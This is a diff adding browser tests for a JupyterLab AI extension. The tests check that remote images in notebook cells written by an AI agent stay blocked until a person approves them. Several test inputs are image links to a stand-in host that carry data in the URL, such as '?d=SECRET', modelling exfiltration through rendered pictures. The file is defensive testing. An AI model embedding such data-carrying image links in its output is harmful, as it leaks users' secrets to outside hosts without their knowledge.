@@ -1,0 +1,230 @@
+"""Pictures from elsewhere in an open notebook: who wrote them says when they are loaded."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import nbformat
+import pytest
+from playwright.async_api import Locator, Page, Route, expect
+
+from tests.browser.agents import NOTEBOOK, Agent, Open, write_cells
+from tests.browser.conftest import OpenLab
+from tests.browser.elsewhere import Elsewhere
+from tests.browser.lab import Lab
+from tests.browser.pictures import picture
+
+BOTH = pytest.mark.parametrize("collaboration", [True, False], ids=["collaboration", "alone"])
+LOADED = (
+    "() => [...document.querySelectorAll('.jp-Notebook img')].filter(each => each.naturalWidth)"
+)
+WRITERS = "**/api/tk-ai/changes/cells?**"
+SETTINGS = "tk-ai-extension:notebook"
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    with Elsewhere().running() as elsewhere:
+        yield elsewhere
+
+
+async def begin(open_lab: OpenLab, *markdown: str, collaboration: bool = False) -> Lab:
+    """Opens a notebook with a code cell and these cells, which a person wrote."""
+    lab = await open_lab(collaboration=collaboration)
+    write_cells(lab.server.root, first000="1")
+    add_markdown(lab.server.root / NOTEBOOK, *markdown)
+    await lab.open(NOTEBOOK)
+    return lab
+
+
+def add_markdown(path: Path, *sources: str) -> None:
+    """Adds cells to a notebook that is not open."""
+    document = nbformat.read(path, as_version=4)
+    document.cells += [nbformat.v4.new_markdown_cell(source) for source in sources]
+    nbformat.write(document, path)
+
+
+async def loaded(page: Page, count: int) -> None:
+    """Waits until so many pictures of the notebook are shown."""
+    await page.wait_for_function(f"() => ({LOADED})().length === {count}")
+
+
+def button(cell: Locator, elsewhere: Elsewhere) -> Locator:
+    """The button by which a person loads what is held in a cell."""
+    return cell.get_by_role("button", name=f"Load pictures from {elsewhere.host}", exact=True)
+
+
+@BOTH
+@pytest.mark.proves("threat:remote-pictures")
+async def test_what_an_agent_wrote_is_held_until_it_is_kept(
+    open_lab: OpenLab, elsewhere: Elsewhere, collaboration: bool
+) -> None:
+    lab = await begin(open_lab, collaboration=collaboration)
+    seen, agent, page = Open(lab), Agent(lab), lab.page
+    source = f"The mean of each month:\n\n![a chart]({elsewhere.url}/a.png?d=SECRET)"
+    await agent("insert_cell", source=source, index=1, cell_type="markdown")
+    load = button(seen.cells.nth(1), elsewhere)
+    await load.wait_for()
+    await seen.mark(1).wait_for()
+    await expect(load).to_have_attribute("title", re.compile(r"/a\.png\?d=SECRET$"))
+    await picture(page, "held-picture")
+
+    await page.reload()
+    await lab.ready()
+    await load.wait_for()
+    await seen.mark(1).click()
+    assert elsewhere.asked == []
+    await seen.review(1).get_by_role("button", name="Keep").click()
+    await loaded(page, 1)
+    await expect(load).to_have_count(0)
+    assert elsewhere.asked == ["/a.png?d=SECRET"]
+
+    await agent("read_notebook")
+    await agent.changes(await key(lab, 1), source.replace("SECRET", "MORE"))
+    await load.wait_for()
+    assert elsewhere.asked == ["/a.png?d=SECRET"]
+
+
+async def key(lab: Lab, place: int) -> str:
+    """The id of a cell."""
+    script = "place => window.jupyterapp.shell.currentWidget.content.widgets[place].model.id"
+    found: str = await lab.page.evaluate(script, place)
+    return found
+
+
+@pytest.mark.proves("threat:remote-pictures")
+async def test_a_person_loads_what_is_held_by_a_button_that_names_the_host(
+    open_lab: OpenLab, elsewhere: Elsewhere
+) -> None:
+    lab = await begin(open_lab)
+    seen, agent, page = Open(lab), Agent(lab), lab.page
+    code = f"from IPython.display import HTML\nHTML('<img src=\"{elsewhere.url}/1.png\">')"
+    await agent("insert_and_execute_cell", source=code, index=1)
+    source = f"<p style='background: url({elsewhere.url}/2.png)'>styled</p>"
+    await agent("insert_cell", source=source, index=2, cell_type="markdown")
+    await button(seen.cells.nth(2), elsewhere).wait_for()
+    await button(seen.cells.nth(1), elsewhere).focus()
+    assert elsewhere.asked == []
+    await page.keyboard.press("Enter")
+    await loaded(page, 1)
+    await expect(button(seen.cells.nth(1), elsewhere)).to_have_count(0)
+    await expect(seen.cells.nth(1)).to_be_focused()
+    assert elsewhere.asked == ["/1.png"]
+
+    async with page.expect_request(f"{elsewhere.url}/2.png"):
+        await button(seen.cells.nth(2), elsewhere).click()
+    # What was loaded once is, whatever else is written beside it.
+    await agent.changes(await key(lab, 2), f"{source} and more")
+    await expect(seen.cells.nth(2)).to_contain_text("and more")
+    await agent.changes(await key(lab, 2), f"{source}\n\n![]({elsewhere.url}/3.png)")
+    await button(seen.cells.nth(2), elsewhere).wait_for()
+    assert "/3.png" not in elsewhere.asked
+
+
+@BOTH
+@pytest.mark.proves("threat:remote-pictures")
+async def test_a_notebook_that_no_agent_wrote_looks_as_ever(
+    open_lab: OpenLab, elsewhere: Elsewhere, collaboration: bool
+) -> None:
+    badge = f"[![Open elsewhere]({elsewhere.url}/badge.png)]({elsewhere.url}/open)"
+    diagram = f'```mermaid\ngraph LR\nA["<img src={elsewhere.url}/in-diagram.png>"]-->B\n```'
+    lab = await begin(open_lab, badge, diagram, "Notes", collaboration=collaboration)
+    seen, agent, page = Open(lab), Agent(lab), lab.page
+    await loaded(page, 2)
+    assert "/badge.png" in elsewhere.asked
+    held = page.locator("[data-tk-held], tk-ai-held, .tk-Held")
+    await expect(held).to_have_count(0)
+
+    # In the same notebook an agent writes, and then the person does.
+    await agent(
+        "insert_cell", source=f"![]({elsewhere.url}/agent.png)", index=0, cell_type="markdown"
+    )
+    await button(seen.cells.nth(0), elsewhere).wait_for()
+    await seen.cells.nth(4).get_by_role("paragraph").click()
+    await page.keyboard.press("Enter")
+    await expect(seen.cells.nth(4).locator(".cm-content")).to_be_focused()
+    await page.keyboard.press("Control+End")
+    await page.keyboard.type(f" ![]({elsewhere.url}/typed.png)")
+    await page.keyboard.press("Control+Enter")
+    await loaded(page, 3)
+    assert "/agent.png" not in elsewhere.asked
+
+
+@pytest.mark.proves("threat:remote-pictures")
+async def test_nothing_is_loaded_before_the_server_has_told_who_wrote_it(
+    open_lab: OpenLab, elsewhere: Elsewhere
+) -> None:
+    lab = await open_lab()
+    told = asyncio.Event()
+
+    async def silent(route: Route) -> None:
+        await told.wait()
+        await route.abort()
+
+    await lab.page.route(WRITERS, silent)
+    write_cells(lab.server.root, first000="1")
+    add_markdown(lab.server.root / NOTEBOOK, f"![]({elsewhere.url}/a.png)")
+    async with lab.page.expect_request(WRITERS):
+        await lab.open(NOTEBOOK)
+    await lab.page.locator("tk-ai-held").wait_for(state="attached")
+    assert elsewhere.asked == []
+    # Where it is not told, a person may load it; and it is asked for again.
+    told.set()
+    await button(Open(lab).cells.nth(1), elsewhere).wait_for()
+    assert elsewhere.asked == []
+    await lab.page.unroute(WRITERS)
+    await loaded(lab.page, 1)
+
+
+@pytest.mark.proves("threat:remote-pictures")
+async def test_views_beside_the_cells_hold_and_let_go_what_these_do(
+    open_lab: OpenLab, elsewhere: Elsewhere
+) -> None:
+    lab = await begin(open_lab)
+    seen, agent, page = Open(lab), Agent(lab), lab.page
+    await page.get_by_role("tab", name="Table of Contents").click()
+    source = f"# Title ![]({elsewhere.url}/heading.png)"
+    await agent("insert_cell", source=source, index=0, cell_type="markdown")
+    code = f"from IPython.display import HTML\nHTML('<h2>Two <img src=\"{elsewhere.url}/1.png\"></h2>')"
+    await agent("insert_and_execute_cell", source=code, index=1)
+    await page.locator(".jp-tocItem").filter(has_text="Title").wait_for()
+    await button(seen.cells.nth(1), elsewhere).wait_for()
+    await seen.cells.nth(1).locator(".cm-content").click()
+    await lab.command("notebook:create-output-view")
+    view = page.locator(".jp-LinkedOutputView")
+    await expect(view.locator("img")).to_have_attribute("data-tk-held", "")
+    assert elsewhere.asked == []
+    await page.get_by_role("tab", name=NOTEBOOK).click()
+    await seen.all_changes.get_by_role("button", name="Keep").click()
+    await loaded(page, 2)
+    await expect(view.locator("img")).not_to_have_attribute("data-tk-held", "")
+
+
+@pytest.mark.proves("threat:remote-pictures")
+async def test_a_setting_holds_everything_or_nothing(
+    open_lab: OpenLab, elsewhere: Elsewhere
+) -> None:
+    lab = await begin(open_lab, f"![]({elsewhere.url}/mine.png)")
+    seen, agent, page = Open(lab), Agent(lab), lab.page
+    await loaded(page, 1)
+    await set_rule(lab, "all")
+    await button(seen.cells.nth(1), elsewhere).wait_for()
+    assert elsewhere.asked == ["/mine.png"]
+    source = f"![]({elsewhere.url}/theirs.png)"
+    await agent("insert_cell", source=source, index=0, cell_type="markdown")
+    await button(seen.cells.nth(0), elsewhere).wait_for()
+    await set_rule(lab, "nothing")
+    await loaded(page, 2)
+    await expect(page.locator(".tk-Held")).to_have_count(0)
+
+
+async def set_rule(lab: Lab, rule: str) -> None:
+    """Changes the setting for the next page, and loads that."""
+    script = """([of, raw]) => window.jupyterapp.serviceManager.settings.save(of, raw)"""
+    await lab.page.evaluate(script, [SETTINGS, json.dumps({"pictures": rule})])
+    await lab.page.reload()
+    await lab.ready()
